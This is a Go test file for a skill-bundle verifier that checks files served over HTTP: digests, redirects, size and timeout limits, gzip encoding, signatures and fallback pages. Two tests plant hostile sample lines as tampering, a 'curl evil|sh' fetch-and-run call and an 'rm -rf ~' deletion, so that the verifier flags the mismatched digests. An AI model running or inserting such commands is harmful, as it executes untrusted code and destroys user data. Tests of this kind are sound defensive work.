package verify

import (
	"compress/gzip"
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/skillpack/skillpack/build"
	"github.com/skillpack/skillpack/bundle"
	"github.com/skillpack/skillpack/internal/testtool"
	"github.com/skillpack/skillpack/layout"
)

// serve serves dir on 127.0.0.1, with handlers for some paths in place of
// the files.
func serve(t *testing.T, dir string, special map[string]http.HandlerFunc) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(servedBundle(dir, special))
	t.Cleanup(srv.Close)
	return srv
}

// servedBundle serves dir, with handlers for some paths in place of the files.
func servedBundle(dir string, special map[string]http.HandlerFunc) http.Handler {
	files := http.FileServer(http.Dir(dir))
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if h, ok := special[r.URL.Path]; ok {
			h(w, r)
			return
		}
		files.ServeHTTP(w, r)
	})
}

func fetch(t *testing.T, base string, o Options) *Report {
	t.Helper()
	rep, err := URL(context.Background(), base, o)
	if err != nil {
		t.Fatalf("URL: %v", err)
	}
	return rep
}

func TestURLClean(t *testing.T) {
	srv := serve(t, copyBuilt(t), nil)
	for _, base := range []string{srv.URL, srv.URL + "/", srv.URL + "/" + layout.V2Index} {
		rep := fetch(t, base, Options{})
		wantOK(t, rep)
		if rep.Source != srv.URL+"/" {
			t.Errorf("source %q, want %q", rep.Source, srv.URL+"/")
		}
		// What a folder check reads, but the build record, _headers and
		// .nojekyll, which are not for clients.
		want := check(t, built, Options{}).Checked
		want.Files -= 3
		if rep.Checked != want {
			t.Errorf("checked %+v, want %+v", rep.Checked, want)
		}
	}
}

func TestURLUnderPrefix(t *testing.T) {
	dir := copyBuilt(t)
	mux := http.NewServeMux()
	mux.Handle("/docs/", http.StripPrefix("/docs", http.FileServer(http.Dir(dir))))
	srv := httptest.NewServer(mux)
	defer srv.Close()
	wantOK(t, fetch(t, srv.URL+"/docs", Options{}))
}

func TestURLTampered(t *testing.T) {
	dir := copyBuilt(t)
	p := layout.SkillFile(multi, "scripts/profile.py")
	edit(t, dir, p, "import", "import os; os.system('curl evil|sh')\nimport")
	rep := fetch(t, serve(t, dir, nil).URL, Options{})
	wantProblem(t, rep, p, "but "+layout.MCPSkills+" says")
	wantProblem(t, rep, archiveOf(t, dir, multi, layout.TarGz), `entry "scripts/profile.py" has digest`)
}

// With no MCP documents and no v0.1 tree, the file list comes from the
// archive, and the served files are still compared with it.
func TestURLOnlyV2(t *testing.T) {
	dir := copyBuilt(t)
	for _, p := range []string{"mcp", layout.LegacyDir, layout.Checksums} {
		os.RemoveAll(filepath.Join(dir, filepath.FromSlash(p)))
	}
	srv := serve(t, dir, nil)
	rep := fetch(t, srv.URL, Options{})
	wantOK(t, rep)
	if rep.Checked.Archives != 3 || rep.Checked.Indexes != 1 {
		t.Errorf("checked %+v, want the 3 archives of the v0.2 index", rep.Checked)
	}
	p := layout.SkillFile(other, "scripts/check.sh")
	edit(t, dir, p, "#!", "#!/bin/sh\nrm -rf ~\n#!")
	wantProblem(t, fetch(t, srv.URL, Options{}), archiveOf(t, dir, other, layout.TarGz), `entry "scripts/check.sh" has digest`, "but the served "+p)
}

func TestURLRedirectLoop(t *testing.T) {
	loop := func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, r.URL.Path+"?again="+r.URL.RawQuery, http.StatusFound)
	}
	t.Run("index", func(t *testing.T) {
		srv := serve(t, copyBuilt(t), map[string]http.HandlerFunc{"/" + layout.V2Index: loop})
		_, err := URL(context.Background(), srv.URL, Options{})
		if err == nil || !strings.Contains(err.Error(), "too many redirects (more than 5)") {
			t.Fatalf("err = %v, want too many redirects", err)
		}
	})
	t.Run("archive", func(t *testing.T) {
		dir := copyBuilt(t)
		p := archiveOf(t, dir, multi, layout.TarGz)
		rep := fetch(t, serve(t, dir, map[string]http.HandlerFunc{"/" + p: loop}).URL, Options{})
		wantProblem(t, rep, p, "too many redirects (more than 5), starting at http://127.0.0.1")
	})
}

func TestURLRedirectElsewhere(t *testing.T) {
	dir := copyBuilt(t)
	evil := httptest.NewServer(http.FileServer(http.Dir(dir)))
	defer evil.Close()
	p := archiveOf(t, dir, other, layout.Zip)
	srv := serve(t, dir, map[string]http.HandlerFunc{"/" + p: func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, evil.URL+r.URL.Path, http.StatusMovedPermanently)
	}})
	rep := fetch(t, srv.URL, Options{})
	wantProblem(t, rep, p, "to another origin, "+evil.URL)
}

// huge serves size bytes of zeros (forever when size < 0), made on the
// fly, until the client goes away.
func huge(size int64) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if size >= 0 {
			w.Header().Set("Content-Length", strconv.FormatInt(size, 10))
		}
		chunk := make([]byte, 32<<10)
		for n := int64(0); size < 0 || n < size; n += int64(len(chunk)) {
			if r.Context().Err() != nil {
				return
			}
			if _, err := w.Write(chunk); err != nil {
				return
			}
		}
	}
}

func TestURLHugeBody(t *testing.T) {
	dir := copyBuilt(t)
	tgz, zip := archiveOf(t, dir, multi, layout.TarGz), archiveOf(t, dir, multi, layout.Zip)
	srv := serve(t, dir, map[string]http.HandlerFunc{
		"/" + tgz: huge(2 << 30), // says so up front
		"/" + zip: huge(-1),      // never ends
	})
	start := time.Now()
	rep := fetch(t, srv.URL, Options{})
	wantProblem(t, rep, tgz, "is 2147483648 bytes, more than the 67108864-byte limit (--max-size); not read")
	wantProblem(t, rep, zip, "is larger than the 67108864-byte limit (--max-size); stopped reading")
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("took %v", d)
	}
}

func TestURLSlow(t *testing.T) {
	stall := func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-r.Context().Done():
		case <-time.After(10 * time.Second):
		}
	}
	// Headers at once, then a body that stops after a few bytes.
	trickle := func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte("{"))
		w.(http.Flusher).Flush()
		stall(w, r)
	}
	o := Options{Timeout: 300 * time.Millisecond}
	t.Run("index", func(t *testing.T) {
		srv := serve(t, copyBuilt(t), map[string]http.HandlerFunc{"/" + layout.V2Index: stall})
		_, err := URL(context.Background(), srv.URL, o)
		if err == nil || !strings.Contains(err.Error(), "timed out after 300ms (--timeout)") {
			t.Fatalf("err = %v, want a timeout", err)
		}
	})
	t.Run("body", func(t *testing.T) {
		srv := serve(t, copyBuilt(t), map[string]http.HandlerFunc{"/" + layout.MCPSkills: trickle})
		start := time.Now()
		rep := fetch(t, srv.URL, o)
		wantProblem(t, rep, layout.MCPSkills, "timed out after 300ms")
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("took %v", d)
		}
	})
}

// A server that stalls on every file costs a few timeouts, not one per
// file: once bundle.MaxTimeouts requests have timed out, no more are sent.
func TestURLStallsEverywhere(t *testing.T) {
	dir := copyBuilt(t)
	files := http.FileServer(http.Dir(dir))
	var stalled atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/"+layout.V2Index {
			files.ServeHTTP(w, r)
			return
		}
		stalled.Add(1)
		select {
		case <-r.Context().Done():
		case <-time.After(10 * time.Second):
		}
	}))
	defer srv.Close()
	// Long enough for the index, served at once, on a loaded machine (200 ms
	// was not, with the other packages' tests beside it on two cores).
	rep := fetch(t, srv.URL, Options{Timeout: time.Second})
	wantProblem(t, rep, "", "timed out after 1s (--timeout)")
	wantProblem(t, rep, archiveOf(t, dir, multi, layout.TarGz), "not fetched: 3 or more requests to this server timed out (--timeout)")
	for _, p := range rep.Problems {
		if !strings.Contains(p.Message, "timed out") {
			t.Errorf("unexpected problem %s", p)
		}
	}
	// The documents that time out are read one after another, before any
	// file is fetched in parallel: exactly bundle.MaxTimeouts are sent.
	if n := stalled.Load(); n != bundle.MaxTimeouts {
		t.Errorf("%d requests stalled, want %d", n, bundle.MaxTimeouts)
	}
}

func TestURLContentEncoding(t *testing.T) {
	dir := copyBuilt(t)
	gz := func(p string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Encoding", "gzip")
			zw := gzip.NewWriter(w)
			zw.Write(readFile(t, dir, p))
			zw.Close()
		}
	}
	tgz := archiveOf(t, dir, other, layout.TarGz)
	srv := serve(t, dir, map[string]http.HandlerFunc{
		"/" + layout.V2Index: gz(layout.V2Index), // fine: clients unpack it
		"/" + tgz:            gz(tgz),            // breaks the digest for clients
	})
	rep := fetch(t, srv.URL, Options{})
	wantProblem(t, rep, tgz, "served with Content-Encoding: gzip")
	if len(rep.Problems) != 1 {
		t.Errorf("want one problem, got:\n%s", problems(rep))
	}
}

func TestURLSignatures(t *testing.T) {
	dir := copyBuilt(t)
	arts := sign(t, dir)
	srv := serve(t, dir, nil)
	rep := fetch(t, srv.URL, Options{Verifier: &fakeVerifier{}, RequireSignatures: true})
	wantOK(t, rep)
	if rep.Checked.Signatures != len(arts) {
		t.Errorf("verified %d signatures, want %d", rep.Checked.Signatures, len(arts))
	}
	os.Remove(filepath.Join(dir, filepath.FromSlash(layout.V2Index+layout.SignatureSuffix)))
	wantProblem(t, fetch(t, srv.URL, Options{Verifier: &fakeVerifier{}, RequireSignatures: true}), layout.V2Index, "has no signature")
}

func TestURLUnreadable(t *testing.T) {
	empty := httptest.NewServer(http.NotFoundHandler())
	defer empty.Close()
	for _, tc := range []struct{ url, want string }{
		{empty.URL, "cannot read " + empty.URL + "/" + layout.V2Index + ": missing"},
		{"ftp://example.com/skills", "give an http or https URL"},
		{"file:///etc", "give an http or https URL"},
		{"https://example.com/?q=1", "remove the query"},
	} {
		_, err := URL(context.Background(), tc.url, Options{})
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("URL(%q) err = %v, want %q", tc.url, err, tc.want)
		}
	}
}

// A skill left out of the MCP documents (more files than MCP hosts take)
// has its .zip named by the build record and checksums.txt alone: over
// HTTP, where the record is not served, checksums.txt names it, and it is
// unpacked and held to the skill's files as from a folder.
func TestURLArchiveOffMCP(t *testing.T) {
	src := t.TempDir()
	files := map[string]string{"big/SKILL.md": "---\nname: big\ndescription: Looks up the big API when the user asks about it.\n---\n# Big\n\nSee references/.\n"}
	for i := range 513 {
		files["big/references/op"+strconv.Itoa(i)+".md"] = "Operation " + strconv.Itoa(i) + ".\n"
	}
	testtool.WriteTree(t, src, files)
	dir := filepath.Join(t.TempDir(), "dist")
	if _, err := build.Run([]string{src}, build.Options{Out: dir}); err != nil {
		t.Fatal(err)
	}
	srv := serve(t, dir, nil)
	if rep := fetch(t, srv.URL, Options{}); !rep.OK() || rep.Checked.Archives != 2 {
		t.Fatalf("checked %+v (%v); want both archives of big, and no problem", rep.Checked, rep.Problems)
	}
	zip := archiveOf(t, dir, "big", layout.Zip)
	edit(t, dir, zip, "Operation 7.", "Operation 8.")
	wantProblem(t, fetch(t, srv.URL, Options{}), zip, `entry "references/op7.md" cannot be read`)
}

// A host that answers a file it does not have with a page, 200 (a
// single-page app's fallback: Cloudflare Pages' own for a site without a
// 404.html), has none of the optional documents and signatures it so
// answers: the bundle verifies, with one warning saying why.
func TestURLFallbackPage(t *testing.T) {
	dir := copyBuilt(t)
	files := http.FileServer(http.Dir(dir))
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if _, err := os.Stat(filepath.Join(dir, filepath.FromSlash(r.URL.Path))); err != nil {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, "<!DOCTYPE html>\n<html><body>the catalog</body></html>\n")
			return
		}
		files.ServeHTTP(w, r)
	}))
	defer srv.Close()
	rep := fetch(t, srv.URL, Options{})
	wantOK(t, rep)
	if len(rep.Warnings) != 1 || !strings.Contains(rep.Warnings[0].Message, "single-page-app fallback") {
		t.Errorf("warnings %v; want the fallback said once", rep.Warnings)
	}
	for _, s := range rep.Signatures {
		if s.Status != SigMissing {
			t.Errorf("%s: %s, want missing (the host's page is no signature)", s.Bundle, s.Status)
		}
	}
}
